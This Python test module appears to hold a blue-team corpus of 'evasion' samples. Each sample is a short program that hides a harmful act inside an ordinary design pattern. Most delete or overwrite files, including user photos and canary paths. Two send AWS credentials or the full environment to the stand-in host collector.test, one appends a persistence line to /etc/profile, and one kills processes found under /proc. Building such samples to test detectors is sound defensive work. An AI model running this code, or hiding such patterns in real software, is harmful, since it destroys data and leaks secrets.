"""The act is put together from objects: strategies, registries, callbacks, steps of a pipeline."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

_evasion = technique("python", "objects at work")

EVASIONS = (
    _evasion(
        "strategy",
        Harm.DESTROYED,
        r"""
import shutil
from abc import ABC, abstractmethod


class Retention(ABC):
    @abstractmethod
    def apply(self, path: str) -> None: ...


class KeepAll(Retention):
    def apply(self, path: str) -> None:
        print("keeping", path)


class KeepNone(Retention):
    def apply(self, path: str) -> None:
        shutil.rmtree(path)


class Store:
    def __init__(self, path: str, retention: Retention) -> None:
        self.path, self.retention = path, retention

    def rotate(self) -> None:
        self.retention.apply(self.path)


for store in (Store("data", KeepAll()), Store("/var/backups/canary", KeepNone())):
    store.rotate()
""",
    ),
    _evasion(
        "registry of commands",
        Harm.DESTROYED,
        r"""
import os

COMMANDS = {}


def command(name):
    def register(function):
        COMMANDS[name] = function
        return function

    return register


@command("check")
def check(path):
    print(path, os.path.exists(path))


@command("finish")
def finish(path):
    os.replace(path, "/tmp/" + os.path.basename(path))


for name in ("check", "finish"):
    COMMANDS[name]("/home/mira/notes.txt")
""",
    ),
    _evasion(
        "callback for each file",
        Harm.DESTROYED,
        r"""
import os


def walk(root, visit):
    for folder, _, names in os.walk(root):
        for name in names:
            visit(os.path.join(folder, name))


roots = ["/workspace/build", "/home/mira/photos"]
for root in roots:
    walk(root, os.remove)
""",
    ),
    _evasion(
        "pipeline of steps",
        Harm.SENT,
        r"""
import functools
import gzip
import socket
from pathlib import Path


def read(path):
    return Path(path).read_bytes()


def pack(data):
    return gzip.compress(data)


def deliver(data):
    with socket.create_connection(("collector.test", 9001), timeout=3) as connection:
        connection.sendall(data)
    return len(data)


STEPS = [read, pack, deliver]
print(functools.reduce(lambda value, step: step(value), STEPS, "/root/.aws/credentials"))
""",
    ),
    _evasion(
        "builder",
        Harm.PERSISTED,
        r"""
class ProfileBuilder:
    def __init__(self):
        self.lines = []
        self.place = None

    def at(self, *parts):
        self.place = "/".join(("", *parts))
        return self

    def export(self, name, value):
        self.lines.append(f"export {name}={value}")
        return self

    def save(self):
        with open(self.place, "a", encoding="utf-8") as file:
            file.write("\n".join(self.lines) + "\n")


ProfileBuilder().at("etc", "profile").export("PYTHONSTARTUP", "/tmp/start.py").save()
""",
    ),
    _evasion(
        "visitor by method name",
        Harm.DESTROYED,
        r"""
from pathlib import Path


class Janitor:
    def visit_db(self, path: Path) -> None:
        path.write_bytes(b"")

    def visit_bak(self, path: Path) -> None:
        path.unlink()

    def visit(self, path: Path) -> None:
        getattr(self, f"visit_{path.suffix[1:]}", print)(path)


janitor = Janitor()
for folder in ("/var/lib/canary", "/var/backups/canary", "/workspace"):
    for path in Path(folder).iterdir():
        janitor.visit(path)
""",
    ),
    _evasion(
        "repository with a delete",
        Harm.DESTROYED,
        r"""
import os
from dataclasses import dataclass


@dataclass(frozen=True)
class Asset:
    key: str
    expired: bool = False


class Repository:
    def __init__(self, base: str) -> None:
        self.base = base

    def assets(self):
        for folder, _, names in os.walk(self.base):
            yield from (Asset(os.path.join(folder, name), expired=True) for name in names)

    def delete(self, asset: Asset) -> None:
        os.unlink(asset.key)


repository = Repository("/home/mira/photos")
for asset in repository.assets():
    if asset.expired:
        repository.delete(asset)
""",
    ),
    _evasion(
        "property that writes",
        Harm.DESTROYED,
        r"""
class ConfigFile:
    def __init__(self, path):
        self._path = path

    @property
    def text(self):
        with open(self._path) as file:
            return file.read()

    @text.setter
    def text(self, value):
        with open(self._path, "w") as file:
            file.write(value)


config = ConfigFile("/etc/redblue-canary.conf")
config.text = "[service]\nname = test\n"
print(config.text)
""",
    ),
    _evasion(
        "queue of jobs",
        Harm.DESTROYED,
        r"""
import collections
import shutil

Job = collections.namedtuple("Job", "run args")
jobs = collections.deque()
jobs.append(Job(print, ("starting",)))
jobs.append(Job(shutil.move, ("/var/lib/canary/data.db", "/tmp/data.db")))
jobs.append(Job(print, ("finished",)))
while jobs:
    job = jobs.popleft()
    job.run(*job.args)
""",
    ),
    _evasion(
        "mixed in",
        Harm.SENT,
        r"""
import http.client
import os


class Context:
    def collect(self):
        return {key: os.environ[key] for key in sorted(os.environ)}


class HttpSink:
    host, port = "collector.test", 8000

    def emit(self, payload):
        connection = http.client.HTTPConnection(self.host, self.port, timeout=3)
        connection.request("POST", "/context", body=repr(payload))
        connection.getresponse().read()


class Reporter(Context, HttpSink):
    def report(self):
        self.emit(self.collect())


Reporter().report()
""",
    ),
    _evasion(
        "enumerated places",
        Harm.DESTROYED,
        r"""
import enum
import os


class Place(enum.Enum):
    BUILD = "/workspace/build"
    STATE = "/var/lib/canary"

    def purge(self):
        for entry in os.scandir(self.value) if os.path.isdir(self.value) else ():
            os.remove(entry.path)


for place in Place:
    place.purge()
""",
    ),
    _evasion(
        "workers as objects",
        Harm.KILLED,
        r"""
import os
import signal
from pathlib import Path


class Worker:
    def __init__(self, folder: Path) -> None:
        self.pid = int(folder.name)
        self.title = (folder / "cmdline").read_bytes().split(b"\0")[0].decode()

    def stop(self) -> None:
        os.kill(self.pid, signal.SIGTERM)


workers = [Worker(folder) for folder in Path("/proc").iterdir() if folder.name.isdigit()]
for worker in (worker for worker in workers if worker.title.endswith(("-db", "-editor"))):
    worker.stop()
""",
    ),
)
